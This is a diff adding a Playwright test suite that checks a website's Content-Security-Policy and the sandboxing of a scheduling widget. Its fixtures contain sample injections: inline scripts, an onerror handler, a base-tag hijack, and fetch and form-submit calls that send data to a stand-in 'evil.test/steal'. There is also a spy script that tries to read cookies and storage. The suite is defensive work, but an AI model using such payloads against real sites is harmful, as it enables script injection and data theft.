@@ -1,0 +1,144 @@
+/** The Content-Security-Policy in a real browser: the site needs nothing it refuses, and nothing gets around it. */
+import { expect, type Page, test } from "@playwright/test";
+import { openPage, routes, scrollThrough } from "./site";
+import { standForThirdParties } from "./visitor";
+
+/** Collects violations of any policy. To be called before the page is opened. */
+async function watchPolicy(page: Page): Promise<() => Promise<unknown>> {
+  await page.addInitScript(() => {
+    const violations: string[] = [];
+    Object.assign(window, { violations });
+    document.addEventListener("securitypolicyviolation", (event) => {
+      violations.push(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`);
+    });
+  });
+  return () => page.evaluate("window.violations");
+}
+
+test("dialogs, maps, theme, search and navigation violate nothing", async ({ page }) => {
+  await standForThirdParties(page);
+  const violations = await watchPolicy(page);
+  await openPage(page, "/");
+  await scrollThrough(page);
+  await page.getByRole("button", { name: "CONTACT US" }).click();
+  await expect(page.getByTitle("Calendar of free times")).toBeVisible();
+  await page.keyboard.press("Escape");
+  await page.getByRole("button", { name: "Show map" }).click();
+  await expect(page.getByTitle("Map of our office in Kolkata", { exact: true })).toBeVisible();
+  await page.getByRole("switch", { name: "Dark theme" }).first().click();
+  await page.keyboard.press("Control+k");
+  await page.keyboard.type("growth");
+  await expect(page.getByRole("dialog").getByRole("option").first()).toBeVisible();
+  await page.keyboard.press("Escape");
+  for (const link of ["About Us", "Services", "Case Study", "Contact Us"]) {
+    await page.getByRole("navigation").getByRole("link", { name: link }).first().click();
+    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
+    await scrollThrough(page);
+  }
+  await page.getByRole("button", { name: "Send enquiry" }).click();
+  await expect(page.getByRole("link", { name: "Name is required" })).toBeVisible();
+  expect(await violations()).toEqual([]);
+});
+
+for (const route of routes) {
+  test(`${route} has a strict policy of less than 8 KB and no style attribute`, async ({
+    request,
+  }) => {
+    const response = await request.get(route);
+    const policy = response.headers()["content-security-policy"] ?? "";
+    expect(policy).toMatch(/^default-src 'none'; /);
+    expect(policy).not.toMatch(/unsafe|\*|http:/);
+    expect(/script-src [^;]*/.exec(policy)?.[0]).toMatch(/^script-src 'self'( 'sha256-[^']+')+$/);
+    expect(policy.length).toBeLessThan(8 * 1024);
+    expect(await response.text()).not.toMatch(/<[^>]+ style=/);
+  });
+}
+
+const injections = {
+  "an inline script": () => {
+    const script = document.createElement("script");
+    script.textContent = "document.title = 'attacked'";
+    document.body.append(script);
+  },
+  "an event handler": () => {
+    document.body.insertAdjacentHTML(
+      "beforeend",
+      `<img src="x" onerror="document.title='attacked'">`,
+    );
+  },
+  "a style": () => {
+    document.body.insertAdjacentHTML("beforeend", "<style>body{display:none}</style>");
+  },
+  "a style attribute": () => {
+    document.body.insertAdjacentHTML("beforeend", `<p style="position:fixed">attacked</p>`);
+  },
+  "a script of another host": () => {
+    const script = document.createElement("script");
+    script.src = "https://evil.test/script.js";
+    document.body.append(script);
+  },
+  "a base address": () => {
+    const base = document.createElement("base");
+    base.href = "https://evil.test/";
+    document.head.append(base);
+  },
+  "an iframe of another host": () => {
+    const frame = document.createElement("iframe");
+    frame.src = "https://evil.test/";
+    document.body.append(frame);
+  },
+  "a connection to another host": () => {
+    void fetch("https://evil.test/steal").catch(() => undefined);
+  },
+};
+
+for (const [name, inject] of Object.entries(injections)) {
+  test(`blocks ${name}`, async ({ page }) => {
+    const requested = await standForThirdParties(page);
+    const violations = await watchPolicy(page);
+    await openPage(page, "/");
+    const title = await page.title();
+    await page.evaluate(inject);
+    await expect.poll(violations).not.toEqual([]);
+    expect(await page.title()).toBe(title);
+    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
+    expect(requested).toEqual([]);
+  });
+}
+
+test("blocks a form to another host", async ({ page }) => {
+  const requested = await standForThirdParties(page);
+  await openPage(page, "/");
+  const refused = page.waitForEvent("console", (message) => message.text().includes("form-action"));
+  await page.evaluate(() => {
+    const form = document.createElement("form");
+    form.action = "https://evil.test/steal";
+    document.body.append(form);
+    form.submit();
+  });
+  await refused;
+  expect(requested).toEqual([]);
+});
+
+test("the scheduling widget's script runs in a frame that can read nothing of the site", async ({
+  page,
+}) => {
+  await standForThirdParties(page);
+  const spy = `
+    const attempts = { storage: () => sessionStorage.length, cookie: () => document.cookie,
+      page: () => parent.document.title, navigation: () => { top.location.href = "https://evil.test/" } };
+    for (const [name, attempt] of Object.entries(attempts)) {
+      try { attempt(); document.documentElement.dataset[name] = "allowed"; }
+      catch (error) { document.documentElement.dataset[name] = error.name; }
+    }`;
+  await page.route("https://assets.calendly.com/**", (route) =>
+    route.fulfill({ contentType: "text/javascript", body: spy }),
+  );
+  await openPage(page, "/");
+  await page.getByRole("button", { name: "CONTACT US" }).click();
+  const root = page.frameLocator('iframe[src="/scheduling-frame"]').locator("html");
+  for (const name of ["storage", "cookie", "page", "navigation"]) {
+    await expect(root).toHaveAttribute(`data-${name}`, "SecurityError");
+  }
+  await expect(page).toHaveURL("/");
+});
